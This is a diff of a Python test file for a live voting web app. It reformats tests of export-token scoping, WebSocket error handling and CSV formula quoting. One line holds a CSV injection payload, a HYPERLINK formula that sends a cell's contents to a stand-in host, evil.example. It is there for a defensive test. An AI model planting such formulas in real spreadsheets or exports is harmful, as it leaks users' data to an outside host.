@@ -94,7 +94,9 @@ def test_the_results_link_does_not_carry_the_host_token_nor_open_the_console(app
         assert refused.value.status_code == 401
     # A battle's results token reads only that battle's export.
     other = app.create_battle(title="Other", battlers=BATTLERS)
-    response = app.get(f"/api/battles/{other['code']}/export.json", headers={"authorization": f"Bearer {results_token}"})
+    response = app.get(
+        f"/api/battles/{other['code']}/export.json", headers={"authorization": f"Bearer {results_token}"}
+    )
     assert response.status_code == 401
 
 
@@ -194,7 +196,9 @@ async def test_bad_messages_get_a_clear_error_and_the_socket_stays_usable(app: I
     assert refused["reason"] == "not_allowed" and refused["message"]
     assert (await phone.request({"type": "react", "kind": "tomato"}))["reason"] == "bad_message"
     assert (await host.request({"type": "next"}))["reason"] == "seq_required"
-    assert (await host.request({"type": "vote", "vote_id": "r1v1", "choice": "b1", "ballot_id": "abcdefgh"}))["reason"] == "not_allowed"
+    assert (await host.request({"type": "vote", "vote_id": "r1v1", "choice": "b1", "ballot_id": "abcdefgh"}))[
+        "reason"
+    ] == "not_allowed"
     assert (await host.command("next"))["reason"] == "wrong_phase"
     assert host.battle["version"] == 0  # nothing changed
 
@@ -279,13 +283,17 @@ def test_the_catalogs_are_a_file_the_browser_keeps(app: InProcess) -> None:
         ({"live_totals": 1}, "live_totals"),
     ],
 )
-def test_a_battle_with_a_number_or_a_yes_in_words_is_refused(app: InProcess, rules: dict[str, object], problem: str) -> None:
+def test_a_battle_with_a_number_or_a_yes_in_words_is_refused(
+    app: InProcess, rules: dict[str, object], problem: str
+) -> None:
     response = app.post("/api/battles", json={"title": "T", "battlers": BATTLERS, "rules": rules})
     assert response.status_code == 422, response.text
     assert problem in json.dumps(response.json()["details"])
 
 
-async def test_a_lone_surrogate_is_a_bad_message_and_the_socket_lives_on(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
+async def test_a_lone_surrogate_is_a_bad_message_and_the_socket_lives_on(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
     """A lone surrogate ("\\ud800", a JSON escape of half a UTF-16 pair) once got `internal`
     and a traceback per frame, and past the rate limit the error reply itself could not be
     encoded: the socket died with 1006."""
@@ -293,8 +301,12 @@ async def test_a_lone_surrogate_is_a_bad_message_and_the_socket_lives_on(tmp_pat
         created = app.create_battle(title="T", battlers=BATTLERS)
         phone = await app.connect("audience", created["code"])
         host = await app.connect("host", created["code"], created["host_token"])
-        lone = ['{"type":"ping","t":1,"id":"\\ud800"}', '{"type":"set_nickname","nickname":"a\\udfff","id":"n1"}',
-                '{"type":"ping","t":1,"\\ud83d":1,"id":"k1"}', '{"type":"edit_battle","seq":0,"title":"\\ud800x","id":"e1"}']
+        lone = [
+            '{"type":"ping","t":1,"id":"\\ud800"}',
+            '{"type":"set_nickname","nickname":"a\\udfff","id":"n1"}',
+            '{"type":"ping","t":1,"\\ud83d":1,"id":"k1"}',
+            '{"type":"edit_battle","seq":0,"title":"\\ud800x","id":"e1"}',
+        ]
         for frame, request_id in zip(lone, [None, "n1", "k1"]):
             await phone.socket.send(frame)
             refused = await phone.expect("error")
@@ -347,7 +359,7 @@ async def test_binary_frames_and_loose_types_are_refused_on_the_socket(app: InPr
     await asyncio.gather(host.close(), phone.close())
 
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(1)"]
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)"]
 
 
 async def test_formulas_in_names_are_quoted_in_the_csv_and_exact_in_the_json(app: InProcess) -> None:
